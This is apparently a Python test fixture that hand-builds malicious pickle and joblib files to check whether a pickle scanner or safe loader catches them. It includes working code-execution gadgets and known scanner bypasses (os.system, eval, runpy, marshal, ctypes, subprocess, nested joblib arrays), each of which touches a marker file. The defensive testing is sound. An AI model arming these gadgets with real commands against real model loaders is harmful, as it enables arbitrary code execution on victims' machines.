"""Hand-assembled malicious pickles: each would create ``marker`` if anything ran it.

The opcodes are written out byte by byte (as an attacker would) so the files do not depend on
how this Python's pickler happens to encode a call. Classes of attack: a plain call of a
dangerous global, the same through STACK_GLOBAL and the memo, an attribute walk from an allowed
module, calls of objects the pickle built, joblib's legacy array wrapper that loads another
file, a joblib array of objects, and the public bypass cases of pickle scanners (fickling's and
picklescan's advisories: pty, marshal + types, runpy, cProfile, ctypes, pydoc, importlib, code,
multiprocessing, timeit).
"""

from __future__ import annotations

import struct
from pathlib import Path

PROTO4 = b"\x80\x04"
MARK, STOP, REDUCE, BUILD, TUPLE, TUPLE1, TUPLE2 = b"(", b".", b"R", b"b", b"t", b"\x85", b"\x86"
EMPTY_TUPLE, EMPTY_DICT, EMPTY_LIST, MEMOIZE, APPENDS, SETITEM = b")", b"}", b"]", b"\x94", b"e", b"s"
STACK_GLOBAL, NEWOBJ, OBJ = b"\x93", b"\x81", b"o"


def text(value: str) -> bytes:
    data = value.encode()
    return (b"\x8c" + bytes([len(data)]) + data) if len(data) < 256 else (b"X" + struct.pack("<I", len(data)) + data)


def raw(value: bytes) -> bytes:
    return b"C" + bytes([len(value)]) + value if len(value) < 256 else b"B" + struct.pack("<I", len(value)) + value


def glob(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def sglob(module: str, name: str) -> bytes:
    return text(module) + text(name) + STACK_GLOBAL


def get(index: int) -> bytes:
    return b"h" + bytes([index])


def touch(marker: Path) -> str:
    return f"touch {marker}"


def corpus(marker: Path, folder: Path) -> dict[str, bytes]:
    """Name -> file bytes; every one would create ``marker`` if unpickled by the standard library."""
    py = folder / "payload.py"
    py.write_text(f"open({str(marker)!r}, 'w').close()\n")
    write = f"open({str(marker)!r}, 'w').close()"
    code = compile(write, "<payload>", "exec")
    import marshal

    return {
        "os.system via GLOBAL": PROTO4 + glob("os", "system") + text(touch(marker)) + TUPLE1 + REDUCE + STOP,
        "posix.system, protocol 0": glob("posix", "system") + MARK + b"V" + touch(marker).encode() + b"\n" + TUPLE + REDUCE + STOP,
        "os.system via STACK_GLOBAL and the memo": (
            PROTO4 + text("os") + MEMOIZE + text("system") + MEMOIZE + get(0) + get(1) + STACK_GLOBAL
            + text(touch(marker)) + TUPLE1 + REDUCE + STOP
        ),
        "INST opcode": MARK + text(touch(marker)) + b"i" + b"os\nsystem\n" + STOP,
        "OBJ opcode": PROTO4 + MARK + glob("os", "system") + text(touch(marker)) + OBJ + STOP,
        "attribute walk from an allowed module (sklearn.base.platform.os.system)": (
            PROTO4 + sglob("sklearn.base", "platform.os.system") + text(touch(marker)) + TUPLE1 + REDUCE + STOP
        ),
        "attribute walk from an allowed class (numpy.ndarray.__class__)": (
            PROTO4 + sglob("numpy", "ndarray.__init__.__globals__") + STOP
        ),
        "builtins.eval": PROTO4 + glob("builtins", "eval") + text(f"__import__('os').system({touch(marker)!r})") + TUPLE1 + REDUCE + STOP,
        "builtins.exec": PROTO4 + glob("builtins", "exec") + text(write) + TUPLE1 + REDUCE + STOP,
        "getattr(importlib.import_module('os'), 'system')": (
            PROTO4 + sglob("builtins", "getattr") + MEMOIZE + sglob("importlib", "import_module") + text("os") + TUPLE1
            + REDUCE + text("system") + TUPLE2 + REDUCE + text(touch(marker)) + TUPLE1 + REDUCE + STOP
        ),
        "operator.attrgetter re-exported": (
            PROTO4 + sglob("operator", "attrgetter") + text("system") + TUPLE1 + REDUCE
            + sglob("os", "getcwd") + EMPTY_TUPLE + REDUCE + STOP
        ),
        "operator.methodcaller on an allowed module": (
            PROTO4 + sglob("operator", "methodcaller") + text("system") + text(touch(marker)) + TUPLE2 + REDUCE + STOP
        ),
        "functools.partial(os.system)": (
            PROTO4 + sglob("functools", "partial") + sglob("os", "system") + text(touch(marker)) + TUPLE2 + REDUCE
            + EMPTY_TUPLE + REDUCE + STOP
        ),
        "numpy.testing runstring": PROTO4 + sglob("numpy.testing._private.utils", "runstring") + text(write) + EMPTY_DICT + TUPLE2 + REDUCE + STOP,
        "numpy.load of another pickle": PROTO4 + sglob("numpy", "load") + text(str(folder / "other.pkl")) + TUPLE1 + REDUCE + STOP,
        "pickle.loads of a nested pickle": (
            PROTO4 + sglob("pickle", "loads") + raw(PROTO4 + glob("os", "system") + text(touch(marker)) + TUPLE1 + REDUCE + STOP)
            + TUPLE1 + REDUCE + STOP
        ),
        "numpy ufunc reconstructor reaching os.system": (
            PROTO4 + sglob("numpy._core", "_ufunc_reconstruct") + text("os") + text("system") + TUPLE2 + REDUCE
            + text(touch(marker)) + TUPLE1 + REDUCE + STOP
        ),
        "a call of an object the pickle built": (
            PROTO4 + sglob("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE + text(touch(marker)) + TUPLE1 + REDUCE + STOP
        ),
        "STACK_GLOBAL whose name is not a string": PROTO4 + text("os") + b"K\x01" + STACK_GLOBAL + STOP,
        "copyreg extension code": PROTO4 + b"\x82\x01" + STOP,
        # public bypass cases of scanners (fickling advisories, picklescan reports), with a real payload
        "pty.spawn": PROTO4 + sglob("pty", "spawn") + EMPTY_LIST + MARK + text("touch") + text(str(marker)) + APPENDS + TUPLE1 + REDUCE + STOP,
        "marshal.loads + types.FunctionType": (
            PROTO4 + sglob("types", "FunctionType") + sglob("marshal", "loads") + raw(marshal.dumps(code)) + TUPLE1 + REDUCE
            + EMPTY_DICT + TUPLE2 + REDUCE + EMPTY_TUPLE + REDUCE + STOP
        ),
        "runpy.run_path": PROTO4 + sglob("runpy", "run_path") + text(str(py)) + TUPLE1 + REDUCE + STOP,
        "cProfile.run": PROTO4 + sglob("cProfile", "run") + text(write) + TUPLE1 + REDUCE + STOP,
        "timeit.timeit": PROTO4 + sglob("timeit", "timeit") + text(write) + TUPLE1 + REDUCE + STOP,
        "pydoc.locate": (
            PROTO4 + sglob("pydoc", "locate") + text("os.system") + TUPLE1 + REDUCE + text(touch(marker)) + TUPLE1 + REDUCE + STOP
        ),
        "code.InteractiveInterpreter.runsource": (
            PROTO4 + sglob("builtins", "getattr") + sglob("code", "InteractiveInterpreter") + EMPTY_TUPLE + REDUCE
            + text("runsource") + TUPLE2 + REDUCE + text(write) + TUPLE1 + REDUCE + STOP
        ),
        "multiprocessing.util.spawnv_passfds": (
            PROTO4 + sglob("multiprocessing.util", "spawnv_passfds") + raw(b"/bin/sh") + EMPTY_LIST + MARK + raw(b"/bin/sh")
            + raw(b"-c") + raw(touch(marker).encode()) + APPENDS + EMPTY_TUPLE + b"\x87" + REDUCE + STOP
        ),
        "ctypes via getattr": (
            PROTO4 + sglob("builtins", "getattr") + sglob("ctypes", "CDLL") + b"N" + TUPLE1 + REDUCE + text("system") + TUPLE2
            + REDUCE + raw(touch(marker).encode()) + TUPLE1 + REDUCE + STOP
        ),
        "subprocess.Popen": PROTO4 + sglob("subprocess", "Popen") + text(touch(marker)) + TUPLE1 + REDUCE + STOP,
        "a persistent id": PROTO4 + text(touch(marker)) + b"Q" + STOP,
        "an out-of-band buffer": b"\x80\x05" + b"\x97" + STOP,
    }


def legacy_joblib(marker: Path, folder: Path) -> Path:
    """A joblib file from before 0.10: an ``NDArrayWrapper`` naming another file, which joblib
    loads with ``numpy.load(..., allow_pickle=True)``: here, a pickle that runs ``touch``."""
    (folder / "array_0.npy").write_bytes(PROTO4 + glob("os", "system") + text(touch(marker)) + TUPLE1 + REDUCE + STOP)
    state = EMPTY_DICT + MARK + text("filename") + text("array_0.npy") + text("subclass") + sglob("numpy", "ndarray") \
        + text("allow_mmap") + b"\x89" + b"u"
    # copyreg._reconstructor(NDArrayWrapper, object, None), then BUILD with the state
    body = PROTO4 + sglob("copyreg", "_reconstructor") + sglob("joblib.numpy_pickle_compat", "NDArrayWrapper") \
        + sglob("builtins", "object") + b"N" + b"\x87" + REDUCE + state + BUILD + STOP
    path = folder / "legacy.joblib"
    path.write_bytes(body)
    return path


def nested_object_array(marker: Path, folder: Path) -> Path:
    """A joblib file whose array of objects holds an ``os.system`` call (joblib's nested pickle)."""
    import joblib
    import numpy as np

    class Touch:
        def __reduce__(self):
            import os

            return (os.system, (touch(marker),))

    path = folder / "objects.joblib"
    joblib.dump({"weights": np.arange(10.0), "hook": np.array([Touch(), 1], dtype=object)}, path, compress=("gzip", 1))
    return path


def as_file(folder: Path, name: str, data: bytes, suffix: str = ".pkl") -> Path:
    path = folder / ("".join(c if c.isalnum() else "_" for c in name)[:60] + suffix)
    path.write_bytes(data)
    return path


def ran_with_stdlib(path: Path, loader: str = "pickle") -> None:
    """Unpickle ``path`` with the standard library (or joblib) in a child process: the control experiment."""
    import subprocess
    import sys

    call = {"pickle": "import pickle; pickle.load(open(p, 'rb'))", "joblib": "import joblib; joblib.load(p)"}[loader]
    subprocess.run([sys.executable, "-c", f"p = {str(path)!r}\n{call}"], capture_output=True, timeout=60, check=False)

